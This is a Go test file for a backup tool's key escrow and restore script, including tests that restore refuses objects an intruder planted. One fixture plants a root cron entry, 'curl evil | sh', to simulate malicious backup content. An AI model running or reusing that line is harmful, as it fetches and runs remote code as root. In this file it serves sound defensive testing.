package main

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/drym-backup/drym/internal/config"
	"github.com/drym-backup/drym/internal/crypt"
	"github.com/drym-backup/drym/internal/escrow"
	"github.com/drym-backup/drym/internal/status"
	"github.com/drym-backup/drym/internal/testutil"
)

// zips returns the escrow zips of web1 in a drop dir with their contents
// (not the public records beside them).
func zips(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, e := range ents {
		if _, ok := escrow.ParseName("web1", e.Name()); !ok {
			if !strings.HasSuffix(e.Name(), ".zip"+escrow.RecordSuffix) {
				t.Fatalf("drop dir holds %s: neither a zip nor its record", e.Name())
			}
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		out[e.Name()] = b
	}
	return out
}

// Init ships the zip to the drop dir; re-running init or
// escrow leaves it byte-identical.
func TestInitShipsEscrowToDropDir(t *testing.T) {
	h := newHost(t)
	out := h.init("dir://"+h.dest, "--escrow", "dir://"+h.drop)
	if !strings.Contains(out, "escrow shipped: drym-escrow-web1-") {
		t.Fatalf("init output:\n%s", out)
	}
	first := zips(t, h.drop)
	if len(first) != 1 {
		t.Fatalf("drop dir holds %d files, want 1 zip", len(first))
	}
	var name string
	var data []byte
	for name, data = range first {
	}
	if _, ok := escrow.ParseName("web1", name); !ok {
		t.Fatalf("zip name %q", name)
	}
	f, err := escrow.Inspect(bytes.NewReader(data), int64(len(data)), escrow.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	var st status.Escrow
	if err := status.Read(filepath.Join(h.state, status.EscrowFile), &st); err != nil {
		t.Fatal(err)
	}
	if st.State != status.OK || st.Zip != name || st.Fingerprint != f.Fingerprint || st.SHA256 == "" || st.Destination != "dir://"+h.drop || st.AlreadyShipped {
		t.Fatalf("escrow.json: %+v", st)
	}

	for _, args := range [][]string{{"escrow"}, {"init"}, {"escrow"}} {
		out := h.mustRun(args...)
		if !strings.Contains(out, "escrow already shipped") {
			t.Fatalf("%v output:\n%s", args, out)
		}
		again := zips(t, h.drop)
		if len(again) != 1 || !bytes.Equal(again[name], data) {
			t.Fatalf("after %v the drop dir changed: %d files", args, len(again))
		}
	}
	if err := status.Read(filepath.Join(h.state, status.EscrowFile), &st); err != nil || !st.AlreadyShipped || st.Zip != name {
		t.Fatalf("escrow.json after re-run: %+v %v", st, err)
	}

	// A settings change the same day: a second zip beside the first.
	cfg, err := config.Load(h.cfg)
	if err != nil {
		t.Fatal(err)
	}
	origSettings, err := os.ReadFile(h.cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Exclude = []string{"*.tmp"}
	enc, err := cfg.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(h.cfg, enc, 0o644); err != nil {
		t.Fatal(err)
	}
	h.mustRun("escrow")
	after := zips(t, h.drop)
	if len(after) != 2 || !bytes.Equal(after[name], data) {
		t.Fatalf("after a settings change: %d zips, first unchanged: %v", len(after), bytes.Equal(after[name], data))
	}

	if out, code := h.check("check_key_escrow"); code != 0 {
		t.Fatalf("check_key_escrow after escrowing the changed settings: exit %d\n%s", code, out)
	}

	// Reverted the same day: the newest zip must hold the settings in force
	// again (a third zip), or the escrow check would keep alerting until
	// the next UTC day while the fix it names says "already shipped".
	if err := os.WriteFile(h.cfg, origSettings, 0o644); err != nil {
		t.Fatal(err)
	}
	// Before the fix the check must alert (the escrowed settings are no
	// longer those in force), or clearing it below would prove nothing.
	if out, code := h.check("check_key_escrow"); code == 0 || !strings.Contains(out, "backup_runner escrow") {
		t.Fatalf("check_key_escrow after the revert, before escrow: exit %d, want an alert naming backup_runner escrow\n%s", code, out)
	}
	out = h.mustRun("escrow")
	if strings.Contains(out, "already shipped") {
		t.Fatalf("escrow after a revert kept an older zip:\n%s", out)
	}
	reverted := zips(t, h.drop)
	if len(reverted) != 3 {
		t.Fatalf("after the revert the drop dir holds %d zips, want 3", len(reverted))
	}
	st = status.Escrow{} // a false field left out of the JSON must not keep its old value
	if err := status.Read(filepath.Join(h.state, status.EscrowFile), &st); err != nil || st.AlreadyShipped || st.Zip == name || reverted[st.Zip] == nil {
		t.Fatalf("escrow.json after the revert: %+v %v", st, err)
	}
	newest := reverted[st.Zip]
	rf, err := escrow.Inspect(bytes.NewReader(newest), int64(len(newest)), escrow.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	if len(rf.Config.Exclude) != 0 {
		t.Fatalf("newest zip %s holds the changed settings (exclude %v), not the reverted ones", st.Zip, rf.Config.Exclude)
	}
	if out := h.mustRun("escrow"); !strings.Contains(out, "escrow already shipped") || !strings.Contains(out, st.Zip) {
		t.Fatalf("escrow after shipping the reverted settings:\n%s", out)
	}
	// The fix the alert named has cleared it, the same day, as the real
	// check run by Nagios sees it.
	if out, code := h.check("check_key_escrow"); code != 0 || !strings.HasPrefix(out, "OK: escrow zip "+st.Zip) {
		t.Fatalf("check_key_escrow after escrow: exit %d, want OK on %s\n%s", code, st.Zip, out)
	}
}

func TestEscrowWithoutDestination(t *testing.T) {
	h := newHost(t)
	out := h.init("dir://" + h.dest)
	if !strings.Contains(out, "no escrow destination") {
		t.Fatalf("init without --escrow:\n%s", out)
	}
	code, out := h.combined("escrow")
	if code != exitUsage || !strings.Contains(out, "[escrow] url") {
		t.Fatalf("escrow without url: %d %s", code, out)
	}
}

func TestEscrowRefusesMismatchedKeyFiles(t *testing.T) {
	h := newHost(t)
	h.init("dir://"+h.dest, "--escrow", "dir://"+h.drop)
	// Another key's public half beside the secret key.
	other := newHost(t)
	other.init("dir://" + other.dest)
	pub, _ := os.ReadFile(config.PublicKeyPath(other.key))
	os.Remove(config.PublicKeyPath(h.key))
	os.WriteFile(config.PublicKeyPath(h.key), pub, 0o644)
	os.RemoveAll(h.drop)
	code, out := h.combined("escrow")
	if code != exitFailure || !strings.Contains(out, "disagree") {
		t.Fatalf("exit %d:\n%s", code, out)
	}
	var st status.Escrow
	if err := status.Read(filepath.Join(h.state, status.EscrowFile), &st); err != nil || st.State != status.Failed {
		t.Fatalf("escrow.json: %+v %v", st, err)
	}
	if _, err := os.Stat(h.drop); err == nil {
		t.Fatal("shipped despite the mismatch")
	}
}

// unzip extracts an escrow zip the way a person would, into dir.
func unzip(t *testing.T, data []byte, dir string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		p := filepath.Join(dir, f.Name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if err := os.WriteFile(p, b, f.Mode().Perm()); err != nil {
			t.Fatal(err)
		}
	}
	return filepath.Join(dir, "drym-web1")
}

// script runs restore.sh from an unzipped escrow folder in a clean
// environment: only gpg, zstd, tar, coreutils (and aws-cli) on PATH.
func script(t *testing.T, folder string, env []string, args ...string) (string, error) {
	t.Helper()
	home := t.TempDir()
	cmd := exec.Command("sh", append([]string{filepath.Join(folder, "restore.sh")}, args...)...)
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + home}, env...)
	cmd.Dir = home
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// The unzipped folder alone restores the latest backup with
// restore.sh in a clean environment; it trusts only backups whose
// statement the host key signed (checked with gpg --verify, then
// sha256sum -c), and latest skips planted and future-dated objects.
func TestRestoreScriptCleanEnv(t *testing.T) {
	for _, tool := range []string{"gpg", "zstd", "tar", "sha256sum"} {
		testutil.Need(t, tool)
	}
	h := newHost(t)
	h.init("dir://"+h.dest, "--escrow", "dir://"+h.drop)
	h.mustRun("backup")
	time.Sleep(1100 * time.Millisecond) // names have second resolution
	os.WriteFile(filepath.Join(h.src, "www/index.html"), []byte("<h1>newer</h1>\n"), 0o640)
	h.mustRun("backup")
	var objects []string // oldest first
	ents, _ := os.ReadDir(filepath.Join(h.dest, "web1"))
	for _, e := range ents {
		if strings.HasSuffix(e.Name(), ".tar.zst.gpg") {
			objects = append(objects, e.Name())
		}
	}
	if len(objects) != 2 {
		t.Fatalf("backups: %v", objects)
	}
	oldest, newest := objects[0], objects[1]

	// The intruder: the host's public key, write access to the backups.
	in := newIntruder(t, config.PublicKeyPath(h.key))
	evil := in.object(filepath.Join(t.TempDir(), "evil"), map[string]string{"etc/cron.d/evil": "* * * * * root curl evil | sh\n"})
	hostDir := filepath.Join(h.dest, "web1")
	put := func(name string, data []byte) { must(t, os.WriteFile(filepath.Join(hostDir, name), data, 0o644)) }
	read := func(name string) []byte { b, err := os.ReadFile(filepath.Join(hostDir, name)); must(t, err); return b }
	planted := map[string]string{} // name → kind
	for i, kind := range []string{legacySidecar, noSignature, otherKey, replayed} {
		planted[in.plant(put, time.Now().Add(time.Duration(i+1)*24*time.Hour), evil, kind, newest, read)] = kind
	}
	// Not in the future, and newer than the genuine backups: latest
	// must still pass it over, for its signature.
	near := in.plant(put, time.Now().Add(time.Minute), evil, otherKey, "", read)

	all := zips(t, h.drop)
	if len(all) != 1 {
		t.Fatalf("%d escrow zips in the drop dir, want the one this host shipped", len(all))
	}
	var data []byte
	for _, b := range all {
		data = b
	}
	folder := unzip(t, data, t.TempDir())
	// The host is gone: only the folder and the backups remain.
	os.RemoveAll(filepath.Dir(h.key))
	os.RemoveAll(h.state)
	restored := func(target string) string {
		b, _ := os.ReadFile(filepath.Join(target, strings.TrimPrefix(h.src, "/"), "www/index.html"))
		return string(b)
	}
	noEvil := func(target string) {
		t.Helper()
		filepath.WalkDir(target, func(p string, d fs.DirEntry, err error) error {
			if err == nil && strings.HasSuffix(p, "/cron.d/evil") {
				t.Errorf("the planted file was restored: %s", p)
			}
			return nil
		})
	}

	target := filepath.Join(t.TempDir(), "restored")
	out, err := script(t, folder, nil, "latest", target)
	if err != nil {
		t.Fatalf("restore.sh: %v\n%s", err, out)
	}
	t.Logf("restore.sh:\n%s", out)
	sameTree(t, h.src, filepath.Join(target, strings.TrimPrefix(h.src, "/")), false)
	if _, err := os.Stat(filepath.Join(target, ".drym/manifest.json")); err != nil {
		t.Errorf("manifest not restored: %v", err)
	}
	noEvil(target)
	for name := range planted {
		if !strings.Contains(out, "skipping "+name+": dated in the future") {
			t.Errorf("latest did not say it skipped the future-dated %s:\n%s", name, out)
		}
	}
	if !strings.Contains(out, "skipping "+near+".sig is signed by key "+in.fpr) {
		t.Errorf("latest did not say why it skipped %s:\n%s", near, out)
	}

	// Named, each planted object is refused before anything is extracted.
	for name, kind := range planted {
		target := filepath.Join(t.TempDir(), "planted")
		out, err := script(t, folder, nil, name, target)
		if err == nil || !regexp.MustCompile(`not signed|is missing|signed by key|about another object`).MatchString(out) {
			t.Errorf("restore.sh %s (%s): %v\n%s", name, kind, err, out)
		}
		if _, err := os.Stat(target); err == nil {
			t.Errorf("restore.sh %s (%s) created %s", name, kind, target)
		}
	}

	// A non-empty target is refused: restore.sh never overwrites.
	if out, err := script(t, folder, nil, "latest", target); err == nil || !strings.Contains(out, "is not empty") {
		t.Fatalf("restore into a non-empty target: err %v\n%s", err, out)
	}
	// A damaged backup is refused, loudly, and nothing of it reaches the
	// target: the flip sits early in the stream, so tar has extracted
	// files (into the staging directory) when the checks fail at the end.
	obj := filepath.Join(hostDir, newest)
	b, _ := os.ReadFile(obj)
	b[len(b)/8] ^= 1
	os.WriteFile(obj, b, 0o644)
	target2 := filepath.Join(t.TempDir(), "r2")
	if out, err := script(t, folder, nil, "latest", target2); err == nil || !strings.Contains(out, "does not match its signed statement") || !strings.Contains(out, "nothing was restored") {
		t.Fatalf("damaged backup: err %v\n%s", err, out)
	}
	if ents, _ := os.ReadDir(target2); len(ents) != 0 {
		t.Fatalf("a damaged backup left %d entries in the target", len(ents))
	}
	// Without its statement it is not trusted: latest is the older one.
	os.Remove(obj + ".sha256")
	target3 := filepath.Join(t.TempDir(), "r3")
	if out, err := script(t, folder, nil, "latest", target3); err != nil || restored(target3) != "<h1>hello</h1>\n" || !strings.Contains(out, "skipping "+newest+".sig exists") {
		t.Fatalf("latest after the newest lost its statement: %v\n%s", err, out)
	}
	// The older backup by name, with the destination mounted elsewhere.
	moved := filepath.Join(t.TempDir(), "mnt")
	if err := os.Rename(h.dest, moved); err != nil {
		t.Fatal(err)
	}
	target4 := filepath.Join(t.TempDir(), "r4")
	if out, err := script(t, folder, []string{"DRYM_SOURCE=" + moved}, strings.TrimSuffix(oldest, ".tar.zst.gpg"), target4); err != nil || restored(target4) != "<h1>hello</h1>\n" {
		t.Fatalf("restore by name: %v\n%s", err, out)
	}
	// A backup made before drym signed them: refused, unless named with
	// --allow-unsigned.
	movedDir := filepath.Join(moved, "web1")
	sum := sha256.Sum256(read2(t, filepath.Join(movedDir, oldest)))
	os.Remove(filepath.Join(movedDir, oldest+".sig"))
	os.Remove(filepath.Join(movedDir, oldest+".sha256"))
	must(t, os.WriteFile(filepath.Join(movedDir, oldest+".sha256"), []byte(hex.EncodeToString(sum[:])+"  "+oldest+"\n"), 0o644))
	env := []string{"DRYM_SOURCE=" + moved}
	if out, err := script(t, folder, env, "latest", filepath.Join(t.TempDir(), "r5")); err == nil || !strings.Contains(out, "--allow-unsigned") {
		t.Fatalf("latest with no signed backup: %v\n%s", err, out)
	}
	if out, err := script(t, folder, env, oldest, filepath.Join(t.TempDir(), "r6")); err == nil || !strings.Contains(out, "not signed") {
		t.Fatalf("unsigned backup without --allow-unsigned: %v\n%s", err, out)
	}
	target7 := filepath.Join(t.TempDir(), "r7")
	if out, err := script(t, folder, env, "--allow-unsigned", oldest, target7); err != nil || restored(target7) != "<h1>hello</h1>\n" || !strings.Contains(out, "UNSIGNED") {
		t.Fatalf("unsigned backup with --allow-unsigned: %v\n%s", err, out)
	}
}

func read2(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	must(t, err)
	return b
}

// S3:// escrow against each S3 server: put-only credentials ship
// with If-None-Match, a re-run never replaces the zip.
func TestEscrowS3(t *testing.T) {
	testutil.ForEachS3(t, testEscrowS3)
}

func testEscrowS3(t *testing.T, srv *testutil.S3Server) {
	srv.SetEnv(t)
	h := newHost(t)
	h.init("dir://" + h.dest)
	cfg, err := config.Load(h.cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Escrow.Remote = config.Remote{URL: "s3://" + srv.Bucket + "/escrow", Endpoint: srv.Endpoint, PathStyle: true,
		Profile: srv.PutProfile, ReadProfile: srv.ReadProfile}
	enc, _ := cfg.Encode()
	os.WriteFile(h.cfg, enc, 0o644)

	out := h.mustRun("escrow")
	if !strings.Contains(out, "escrow shipped") {
		t.Fatalf("escrow:\n%s", out)
	}
	keys := srv.Keys(t, "escrow/")
	if len(keys) != 2 || !strings.HasPrefix(keys[0], "escrow/drym-escrow-web1-") || keys[1] != keys[0]+escrow.RecordSuffix {
		t.Fatalf("bucket holds %v, want a zip and its record", keys)
	}
	get := func() []byte {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		o, err := srv.Root().GetObject(ctx, &s3.GetObjectInput{Bucket: &srv.Bucket, Key: &keys[0]})
		if err != nil {
			t.Fatal(err)
		}
		defer o.Body.Close()
		b, _ := io.ReadAll(o.Body)
		return b
	}
	first := get()
	if _, err := escrow.Inspect(bytes.NewReader(first), int64(len(first)), escrow.DefaultLimits); err != nil {
		t.Fatal(err)
	}
	out = h.mustRun("escrow")
	if !strings.Contains(out, "already shipped") || strings.Contains(out, "not compared") {
		t.Fatalf("re-run:\n%s", out)
	}
	// Without read credentials the existing zip cannot be compared: it is
	// kept (If-None-Match refused the write) and the output says so.
	cfg.Escrow.ReadProfile = srv.PutProfile
	enc, _ = cfg.Encode()
	os.WriteFile(h.cfg, enc, 0o644)
	out = h.mustRun("escrow")
	if !strings.Contains(out, "already shipped") || !strings.Contains(out, "not compared") {
		t.Fatalf("put-only re-run:\n%s", out)
	}
	if k := srv.Keys(t, "escrow/"); len(k) != 2 || !bytes.Equal(get(), first) {
		t.Fatalf("the zip in the bucket changed: %v", k)
	}
}

// restore.sh against an s3:// destination (each S3 server), with aws-cli and
// the read-only profile named in drym.toml, in a clean environment.
func TestRestoreScriptS3(t *testing.T) {
	for _, tool := range []string{"gpg", "zstd", "tar", "sha256sum", "aws"} {
		testutil.Need(t, tool)
	}
	if _, err := os.Stat("/usr/bin/aws"); err != nil {
		testutil.Unable(t, "aws-cli not in /usr/bin")
	}
	testutil.ForEachS3(t, testRestoreScriptS3)
}

func testRestoreScriptS3(t *testing.T, srv *testutil.S3Server) {
	srv.SetEnv(t)
	h := newHost(t)
	h.mustRun("init", "--source", h.src, "--dest", "s3://"+srv.Bucket+"/backups", "--endpoint", srv.Endpoint, "--path-style",
		"--profile", srv.PutProfile, "--read-profile", srv.ReadProfile,
		"--state-dir", h.state, "--key-file", h.key, "--host", "web1", "--escrow", "dir://"+h.drop)
	h.mustRun("backup")
	all := zips(t, h.drop)
	if len(all) != 1 {
		t.Fatalf("%d zips, want 1", len(all))
	}
	var data []byte
	for _, b := range all {
		data = b
	}
	folder := unzip(t, data, t.TempDir())
	// Planted beside it: future-dated, signed by another key.
	in := newIntruder(t, config.PublicKeyPath(h.key))
	evil := in.object(filepath.Join(t.TempDir(), "evil"), map[string]string{"etc/cron.d/evil": "x\n"})
	planted := in.plant(s3Put(t, srv, "backups/web1/"), time.Now().Add(24*time.Hour), evil, otherKey, "", nil)
	os.RemoveAll(filepath.Dir(h.key))

	env := []string{"AWS_CONFIG_FILE=" + srv.ConfigFile, "AWS_SHARED_CREDENTIALS_FILE=" + srv.CredentialsFile, "AWS_EC2_METADATA_DISABLED=true"}
	target := filepath.Join(t.TempDir(), "restored")
	out, err := script(t, folder, env, "latest", target)
	if err != nil {
		t.Fatalf("restore.sh: %v\n%s", err, out)
	}
	t.Logf("restore.sh:\n%s", out)
	sameTree(t, h.src, filepath.Join(target, strings.TrimPrefix(h.src, "/")), false)
	if !strings.Contains(out, "skipping "+planted+": dated in the future") {
		t.Errorf("latest did not skip %s:\n%s", planted, out)
	}
	target2 := filepath.Join(t.TempDir(), "planted")
	if out, err := script(t, folder, env, planted, target2); err == nil || !strings.Contains(out, "signed by key") {
		t.Errorf("restore.sh of the planted object: %v\n%s", err, out)
	}
	if _, err := os.Stat(target2); err == nil {
		t.Errorf("restore.sh of the planted object created %s", target2)
	}
}

// With [escrow] recipients the zip holds host-key.asc.gpg; restore.sh
// decrypts it with the team member's own keyring, then restores.
func TestRestoreScriptTeamEncrypted(t *testing.T) {
	for _, tool := range []string{"gpg", "zstd", "tar", "sha256sum"} {
		testutil.Need(t, tool)
	}
	h := newHost(t)
	h.init("dir://" + h.dest)
	team, err := crypt.Generate("team")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	teamSec, teamPub := filepath.Join(dir, "team.asc"), filepath.Join(dir, "team.pub.asc")
	if err := crypt.WriteKeyFiles(team, teamSec, teamPub); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(h.cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Escrow = config.Escrow{Remote: config.Remote{URL: "dir://" + h.drop}, Recipients: []string{teamPub}}
	enc, _ := cfg.Encode()
	os.WriteFile(h.cfg, enc, 0o644)
	h.mustRun("escrow")
	h.mustRun("backup")
	// Shipping again: the encrypted member differs in bytes, yet it is the
	// same escrow, so nothing new is shipped.
	if out := h.mustRun("escrow"); !strings.Contains(out, "already shipped") {
		t.Fatalf("re-run:\n%s", out)
	}
	all := zips(t, h.drop)
	if len(all) != 1 {
		t.Fatalf("%d zips", len(all))
	}
	var data []byte
	for _, b := range all {
		data = b
	}
	folder := unzip(t, data, t.TempDir())
	if _, err := os.Stat(filepath.Join(folder, "host-key.asc")); err == nil {
		t.Fatal("bare secret key in a team-encrypted escrow")
	}
	// The team member's keyring holds the team key.
	home := t.TempDir()
	gnupg := filepath.Join(home, ".gnupg")
	os.Mkdir(gnupg, 0o700)
	imp := exec.Command("gpg", "--batch", "--import", teamSec)
	imp.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "GNUPGHOME=" + gnupg}
	if out, err := imp.CombinedOutput(); err != nil {
		t.Fatalf("gpg --import: %v\n%s", err, out)
	}
	t.Cleanup(func() {
		k := exec.Command("gpgconf", "--kill", "gpg-agent")
		k.Env = imp.Env
		k.Run()
	})
	target := filepath.Join(t.TempDir(), "restored")
	cmd := exec.Command("sh", filepath.Join(folder, "restore.sh"), target)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "GNUPGHOME=" + gnupg}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("restore.sh: %v\n%s", err, out)
	}
	sameTree(t, h.src, filepath.Join(target, strings.TrimPrefix(h.src, "/")), false)
}
